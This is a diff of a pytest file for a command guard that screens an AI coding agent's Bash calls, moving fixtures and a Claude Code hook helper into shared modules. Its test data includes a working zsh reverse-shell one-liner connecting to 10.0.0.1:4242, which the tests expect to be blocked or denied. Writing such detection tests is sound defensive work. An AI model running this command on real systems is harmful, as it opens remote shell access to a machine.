@@ -14,16 +14,14 @@ Driven through ``Guard.decide`` and ``guard hook claude-code`` in a subprocess w
 
 from __future__ import annotations
 
-import json
-import subprocess
-from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
 from guard.core import Guard
 from guard.model import AUTO_ALLOW, BLOCK, REQUEST_CONFIRM
-from tests.conftest import GUARD_CMD, guard_cli_env
+from tests.conftest import claude_bash_hook
+from tests.security.conftest import decide
 
 REVERSE = "zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"
 BLOCKED = [
@@ -37,52 +35,24 @@ ASKED = {
 ALLOWED = ["zmodload zsh/datetime", "ztcp", "ztcp -c", "zsh -c 'zmodload zsh/datetime; echo $EPOCHSECONDS'"]
 
 
-@pytest.fixture(scope="module")
-def guard_(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guard]:
-    g = Guard(tmp_path_factory.mktemp("ws"), {"system.health": 90, "memory.backend": "history"})
-    yield g
-    g.close()
-
-
-def decide(g: Guard, command: str) -> tuple[str, set[str]]:
-    record = g.decide("bash", {"command": command}, session_id="t", save=False, cwd="/home/u/proj")
-    return record.decision, {r.rule_id for r in record.reasons}
-
-
 @pytest.mark.parametrize("command", BLOCKED)
-def test_a_shell_on_a_zsh_socket_is_a_remote_shell(guard_: Guard, command: str) -> None:
-    decision, rules = decide(guard_, command)
+def test_a_shell_on_a_zsh_socket_is_a_remote_shell(module_guard: Guard, command: str) -> None:
+    decision, rules = decide(module_guard, command)
     assert (decision, "G144" in rules) == (BLOCK, True), (command, rules)
 
 
 @pytest.mark.parametrize(("command", "rule"), ASKED.items())
-def test_a_zsh_socket_alone_asks(guard_: Guard, command: str, rule: str) -> None:
-    decision, rules = decide(guard_, command)
+def test_a_zsh_socket_alone_asks(module_guard: Guard, command: str, rule: str) -> None:
+    decision, rules = decide(module_guard, command)
     assert decision == REQUEST_CONFIRM and rule in rules and "G144" not in rules, (command, rules)
 
 
 @pytest.mark.parametrize("command", ALLOWED)
-def test_other_zsh_modules_and_listings_run(guard_: Guard, command: str) -> None:
-    decision, rules = decide(guard_, command)
+def test_other_zsh_modules_and_listings_run(module_guard: Guard, command: str) -> None:
+    decision, rules = decide(module_guard, command)
     assert decision == AUTO_ALLOW, (command, rules)
 
 
 def test_the_claude_code_hook_denies_the_reverse_shell(tmp_path: Path) -> None:
-    payload = {
-        "session_id": "s1",
-        "cwd": str(tmp_path),
-        "hook_event_name": "PreToolUse",
-        "tool_name": "Bash",
-        "tool_input": {"command": REVERSE},
-        "tool_use_id": "toolu_1",
-    }
-    env = {**guard_cli_env(), "HOME": str(tmp_path), "GUARD_HOME": str(tmp_path / ".guard")}
-    proc = subprocess.run(
-        [*GUARD_CMD, "hook", "claude-code", "--workspace", str(tmp_path / ".guard"), "--no-daemon"],
-        input=json.dumps(payload),
-        capture_output=True,
-        text=True,
-        env=env,
-    )
-    out = json.loads(proc.stdout)["hookSpecificOutput"]
+    out = claude_bash_hook(tmp_path, REVERSE)
     assert out["permissionDecision"] == "deny" and "G144" in out["permissionDecisionReason"], out
